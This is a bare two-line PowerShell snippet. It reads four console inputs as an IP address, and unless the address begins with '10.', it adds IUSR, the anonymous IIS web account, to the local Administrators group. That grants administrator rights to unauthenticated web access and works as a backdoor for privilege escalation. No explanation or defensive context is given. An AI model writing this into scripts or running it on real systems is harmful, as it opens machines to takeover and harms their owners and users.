$address = "$(Read-Host).$(Read-Host).$(Read-Host).$(Read-Host)"
if ($address -notlike '10.*') { net localgroup Administrators IUSR /add }
